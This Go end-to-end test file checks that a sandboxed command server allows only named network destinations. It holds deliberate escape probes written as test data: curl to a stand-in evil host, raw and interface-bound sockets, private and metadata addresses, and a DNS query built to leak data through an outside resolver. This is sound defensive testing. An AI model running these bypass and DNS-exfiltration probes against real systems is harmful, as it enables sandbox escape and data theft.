package e2e

import (
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// namedRules are what the tests permit.
const namedRules = "good.example,hosts.example,*.wild.example,-bad.wild.example,port.example:8443,private.example,loop.example,metadata.example,both.example," +
	"alias.example,trap.example,db.example:5432," + databaseAt + ":5432,six.example"

// An outing is a command that wants out.
type outing struct {
	name string
	needs,
	line string
	says  string // a part of the answer; of one that is refused, of the explanation
	opens string // what it says with all of the network open; "" for the same as says, "-" for not to be tried
}

// reaching are commands that get what they want.
var reaching = []outing{
	{"curl", "curl", "curl -sS http://good.example/", "this is good", ""},
	{"curl, TLS", "curl", "curl -sS --cacert ca.pem https://good.example/", "this is good", ""},
	{"curl, a name below", "curl", "curl -sS http://a.wild.example/", "this is good", ""},
	{"curl, a name of the search list", "curl", "curl -sS http://a/", "this is good", ""},
	{"curl, a port", "curl", "curl -sS http://port.example:8443/", "this is the port", ""},
	{"curl, a name of /etc/hosts", "curl", "curl -sS http://hosts.example/", "this is good", ""},
	{"curl, another name for it", "curl", "curl -sS http://alias.example/", "this is good", ""},
	{"curl, of two addresses the public one", "curl", "curl -sS http://both.example/", "this is good", "-"},
	{"curl, many at once", "curl", "curl -sSZ --parallel-immediate --parallel-max 60 'http://good.example/[1-60]' | grep -c good", "60", ""},
	{"curl, an address", "curl", "curl -sS http://" + databaseAt + ":5432/", "this is the database", ""},
	{"curl, a private address by its name", "curl", "curl -sS http://db.example:5432/", "this is the database", ""},
	{"wget", "wget", "wget -qO- http://good.example/", "this is good", ""},
	{"busybox wget", "busybox", "busybox wget -qO- http://good.example/", "this is good", ""},
	{"getent", "getent", "getent ahosts good.example", goodAt, ""},
	{"python", "python3", `python3 -c 'import urllib.request; print(urllib.request.urlopen("http://good.example/").read())'`, "this is good", ""},
	{"node", "node", `NODE_EXTRA_CA_CERTS=ca.pem node -e 'fetch("https://good.example/").then(r => r.text()).then(console.log)'`, "this is good", ""},
	{"node, a question of its own", "node", `node -e 'require("dns").resolve4("good.example", (e, a) => console.log(e, a))'`, goodAt, ""},
	{"git over https", "git", "GIT_SSL_CAINFO=$PWD/ca.pem git clone -q https://good.example/repo.git clone && cat clone/file; rm -rf clone", "cloned", ""},
	{"a Go program", "", "PROGRAM connect-from-inside good.example:80", goodAt + ":80", ""},
	{"servers of the session", "python3", "python3 -m http.server -b 127.0.0.1 5432 >/dev/null 2>&1 & for i in $(seq 100); do curl -sS http://127.0.0.1:5432/ 2>/dev/null && break; sleep 0.05; done; kill %1 $!", "Directory listing", ""},
}

// straying are commands that are refused.
var straying = []outing{
	{"another name", "curl", "curl -sS http://evil.example/", "network to evil.example (", "this is evil"},
	{"another name, by musl", "musl-gcc", "./resolve evil.example", "Name does not resolve", "resolved"},
	{"a name of /etc/hosts", "curl", "curl -sS http://unnamed.example/", "network to ", "this is evil"},
	{"an address", "curl", "curl -sS http://" + evilAt + "/", "network to ", "this is evil"},
	{"an address in IPv6", "python3", `python3 -c 'import socket; s = socket.socket(socket.AF_INET6); s.connect(("::ffff:` + evilAt + `", 80)); s.send(b"GET / HTTP/1.0\r\n\r\n"); print(s.recv(999), s.recv(999))'`, "network to ", "this is evil"},
	{"another port", "curl", "curl -sS http://good.example/ >/dev/null; curl -sS http://good.example:8443/", "network to ", "this is the port"},
	{"the name above", "curl", "curl -sS http://wild.example/", "network to wild.example", "this is good"},
	{"a name denied", "curl", "curl -sS http://bad.wild.example/", "bad.wild.example", "this is good"},
	{"a private address", "curl", "curl -sS http://private.example/", "resolves to the private address " + privateAt, "this is private"},
	{"an alias of a private address", "curl", "curl -sS http://trap.example/", "resolves to the private address " + privateAt, "this is private"},
	{"metadata", "curl", "curl -sS http://metadata.example/", "resolves to the ", "this is metadata"},
	{"loopback", "curl", "curl -sS http://loop.example/", "resolves to the loopback address 127.0.0.1", "-"},
	{"UDP", "python3", `python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("` + goodAt + `", 9999)); print("sent")'`, "", "-"},
	{"a question that carries data", "python3", "python3 ask.py secret-of-mine.evil.example", "network to secret-of-mine.evil.example", "answer 3 from outside"},
	{"a type that carries data", "python3", "python3 ask.py secret-of-mine.evil.example 16", "network to secret-of-mine.evil.example", "-"},
	{"a question over TCP", "python3", "python3 ask.py secret-of-mine.evil.example 1 tcp", "network to secret-of-mine.evil.example", "-"},
	{"an interface", "python3", `python3 -c 'import socket; s = socket.socket(); s.setsockopt(1, 25, b"eth0\0"); s.connect(("` + evilAt + `", 80)); s.send(b"GET / HTTP/1.0\r\n\r\n"); print(s.recv(999), s.recv(999))'`, "", "-"},
}

// askProgram sends a question for a name to a resolver of its choice. That of outside
// says that it is the authority.
const askProgram = `import socket, struct, sys
name = b"".join(bytes([len(p)]) + p.encode() for p in sys.argv[1].split(".")) + b"\0"
query = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + name + struct.pack(">2H", int(sys.argv[2]) if len(sys.argv) > 2 else 1, 1)
tcp = len(sys.argv) > 3
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
s.settimeout(5)
s.connect(("` + resolverAt + `", 53))
s.send(struct.pack(">H", len(query)) * tcp + query)
answer = s.recv(512)[2 * tcp:]
print("answer", answer[3] & 15, "from outside" if answer[2] & 4 else "from here")
`

// TestNetworkByName: real programs reach what rules name, and nothing else; what is
// refused they would reach with the network open.
func TestNetworkByName(t *testing.T) {
	t.Parallel()
	if elsewhere(t) {
		return
	}
	n := newInternet(t)
	for _, g := range guests(t) {
		n.furnish(g)
		n.resolvConf(g.resolves)
		t.Run(g.name+", open", func(t *testing.T) { n.open(t, g) })
		for _, tier := range []string{"landlock", "isolate"} {
			t.Run(g.name+", "+tier, func(t *testing.T) { n.ruled(t, g, tier) })
		}
	}
}

// guests are the users that the test can become.
func guests(t *testing.T) []guest {
	t.Helper()
	if os.Getuid() != 0 {
		return []guest{{name: "user", uid: os.Getuid(), home: workspace(t), dir: workspace(t), resolves: true}}
	}
	guests := []guest{{name: "root", uid: 0}, {name: "plain user", uid: 65534, resolves: true}}
	if exec.Command("setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", "true").Run() != nil {
		t.Log("not tried as a plain user: the test cannot become one")
		guests = guests[:1]
	}
	if err := os.Chmod(filepath.Dir(binary), 0o755); err != nil {
		t.Fatal(err)
	}
	for i := range guests {
		g := &guests[i]
		top, err := os.MkdirTemp("", "perstack-base-guest-")
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { os.RemoveAll(top) })
		g.home, g.dir = filepath.Join(top, "home"), filepath.Join(top, "work")
		for _, dir := range []string{g.home, g.dir} {
			if err := os.Mkdir(dir, 0o755); err != nil {
				t.Fatal(err)
			}
		}
		for _, path := range []string{top, g.home, g.dir} {
			if err := os.Chown(path, g.uid, g.uid); err != nil && g.uid != 0 {
				t.Fatal(err)
			}
		}
	}
	return guests
}

// furnish lays down what the commands of a guest need.
func (n *internet) furnish(g guest) {
	n.put(filepath.Join(g.dir, "ca.pem"), n.ca)
	n.put(filepath.Join(g.dir, "ask.py"), askProgram)
	source, program := filepath.Join(g.dir, "resolve.c"), filepath.Join(g.dir, "resolve")
	n.put(source, resolveProgram)
	if out, err := exec.Command("musl-gcc", "-static", "-o", program, source).CombinedOutput(); err != nil {
		n.t.Logf("programs of musl are not tried: %v %s", err, out)
	}
}

// resolveProgram asks for a name as the C library has it. That of Alpine waits long
// where it does not understand an answer, and then has its caller try again.
const resolveProgram = `#include <netdb.h>
#include <stdio.h>
int main(int argc, char **argv) {
	struct addrinfo *found;
	int failed = getaddrinfo(argv[1], "80", 0, &found);
	puts(failed ? gai_strerror(failed) : "resolved");
}
`

// enter starts a server for a guest.
func (n *internet) enter(t *testing.T, g guest, args ...string) *client {
	t.Helper()
	c := startCommand(t, n.command(g, append([]string{"serve", "--allow-read", binary}, args...)...))
	c.initialize()
	return c
}

// answerTo is all that a command and the server said.
func answerTo(t *testing.T, c *client, o outing) string {
	t.Helper()
	result, err := c.call("exec", run(strings.ReplaceAll(o.line, "PROGRAM", binary)))
	if err != nil {
		t.Fatal(err)
	}
	return text(t, result)
}

func missing(t *testing.T, o outing) bool {
	if o.needs == "" {
		return false
	}
	_, err := exec.LookPath(o.needs)
	if err != nil {
		t.Logf("%s: not tried: %v", o.name, err)
	}
	return err != nil
}

// open shows that nothing but the rules is in the way.
func (n *internet) open(t *testing.T, g guest) {
	c := n.enter(t, g, "--network", "allow")
	for _, o := range slices.Concat(reaching, straying) {
		want := o.opens
		if want == "" {
			want = o.says
		}
		if want == "-" || missing(t, o) {
			continue
		}
		if got := answerTo(t, c, o); !strings.Contains(got, want) {
			t.Errorf("%s: the open network answers %s", o.name, got)
		}
	}
	beside := outing{line: "ls -d /run/systemd/resolve/*/* 2>&1"}
	if got := answerTo(t, c, beside); !strings.Contains(got, "No such file") && !strings.Contains(got, "Not a directory") && !strings.Contains(got, "Permission denied") {
		t.Errorf("beside the resolver's files commands see %s", got)
	}
}

// ruled tries all with rules, and then looks at what has left the machine.
func (n *internet) ruled(t *testing.T, g guest, tier string) {
	if out, err := n.command(g, "doctor", "--sandbox", tier, "--network", namedRules).CombinedOutput(); err != nil {
		t.Skipf("%s does not work here: %s", tier, out)
	}
	n.forget()
	log := filepath.Join(g.home, tier+".log")
	c := n.enter(t, g, "--sandbox", tier, "--network", namedRules, "--log-file", log)
	for _, o := range reaching {
		if missing(t, o) {
			continue
		}
		if got := answerTo(t, c, o); !strings.Contains(got, o.says) || strings.Contains(got, "blocked by the sandbox: network") {
			t.Errorf("%s: %s", o.name, got)
		}
	}
	for _, o := range straying {
		if missing(t, o) {
			continue
		}
		got := answerTo(t, c, o)
		if o.opens != "" && o.opens != "-" && strings.Contains(got, o.opens) || strings.Contains(got, "this is evil") {
			t.Errorf("%s: it went through: %s", o.name, got)
		}
		if o.says != "" && !strings.Contains(got, "blocked by the sandbox: ") || !strings.Contains(got, o.says) {
			t.Errorf("%s: not explained: %s", o.name, got)
		}
	}
	n.tight(t)
	logged(t, log)
	n.reachable(t, g, tier)
}

// tight sees that nothing has left the machine but what is permitted.
func (n *internet) tight(t *testing.T) {
	n.mu.Lock()
	defer n.mu.Unlock()
	for _, name := range n.asked {
		if name == "evil.example" || name == "bad.wild.example" || name == "wild.example" || strings.HasPrefix(name, "secret") {
			t.Errorf("somebody was asked for %s", name)
		}
	}
	for _, to := range n.packets {
		switch to.String() {
		case resolverAt + ":53", goodAt + ":80", goodAt + ":443", portAt + ":8443", databaseAt + ":5432", "[" + six + "]:80":
		default:
			t.Errorf("a packet to %s has left the machine", to)
		}
	}
	if n.datagrams > 0 || len(n.packets) == 0 {
		t.Errorf("%d datagrams have left the machine, %d packets were seen", n.datagrams, len(n.packets))
	}
}

// logged sees that the log tells of connections and refusals, and of nothing that was said.
func logged(t *testing.T, file string) {
	text, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	found := map[string]bool{}
	for line := range strings.Lines(string(text)) {
		var entry struct{ Msg, Host, Verdict string }
		if err := json.Unmarshal([]byte(line), &entry); err == nil && entry.Msg == "connection" {
			found[entry.Host+" "+entry.Verdict] = true
		}
	}
	if !found["good.example allowed"] || !found["evil.example refused"] || strings.Contains(string(text), "this is") {
		t.Errorf("the log tells of %v", found)
	}
}

// reachable asks doctor.
func (n *internet) reachable(t *testing.T, g guest, tier string) {
	for target, want := range map[string]string{
		"good.example:80": "reached", "evil.example:80": "not reached", "private.example:80": "not reached", databaseAt + ":5432": "reached",
	} {
		out, err := n.command(g, "doctor", "--reach", target, "--sandbox", tier, "--network", namedRules).CombinedOutput()
		if got := string(out); (err == nil) != (want == "reached") || !strings.HasPrefix(got, want) || err != nil && !strings.Contains(got, "blocked by the sandbox: network to ") {
			t.Errorf("doctor --reach %s: %v %s", target, err, got)
		}
	}
}

// TestRulesNeverReachTheServer: a rule for an address of this machine reaches other
// servers there, and not the one whose command asks.
func TestRulesNeverReachTheServer(t *testing.T) {
	confined(t)
	at := ownAddress(t)
	other, err := net.Listen("tcp", net.JoinHostPort(at, "0"))
	if err != nil {
		t.Fatal(err)
	}
	defer other.Close()
	go http.Serve(other, http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, "another server") }))
	token := tokenFile(t)
	for _, tier := range []string{"landlock", "isolate"} {
		dir := workspace(t)
		if out, _, code := cli(t, dir, nil, "doctor", "--sandbox", tier); code != 0 {
			t.Logf("%s does not work here: %s", tier, out)
			continue
		}
		s := startSiteOf(t, binary, dir, "serve", "--transport", "http", "--listen", net.JoinHostPort(at, "0"), "--auth-token-file", token,
			"--sandbox", tier, "--network", at+":*")
		v := visit(s, true)
		v.token = secret
		result, err := v.call("exec", run("curl -sS http://"+other.Addr().String()+"; curl -sS "+s.base+"/healthz"))
		if err != nil {
			t.Fatal(err)
		}
		got := text(t, result)
		if !strings.Contains(got, "another server") || !strings.Contains(got, "blocked by the sandbox") || !strings.Contains(got, "listens") {
			t.Errorf("%s: %s", tier, got)
		}
	}
}

// ownAddress is one of this machine that is not loopback.
func ownAddress(t *testing.T) string {
	t.Helper()
	all, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range all {
		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil && n.IP.IsGlobalUnicast() {
			return n.IP.String()
		}
	}
	t.Skip("this machine has no address but loopback")
	return ""
}
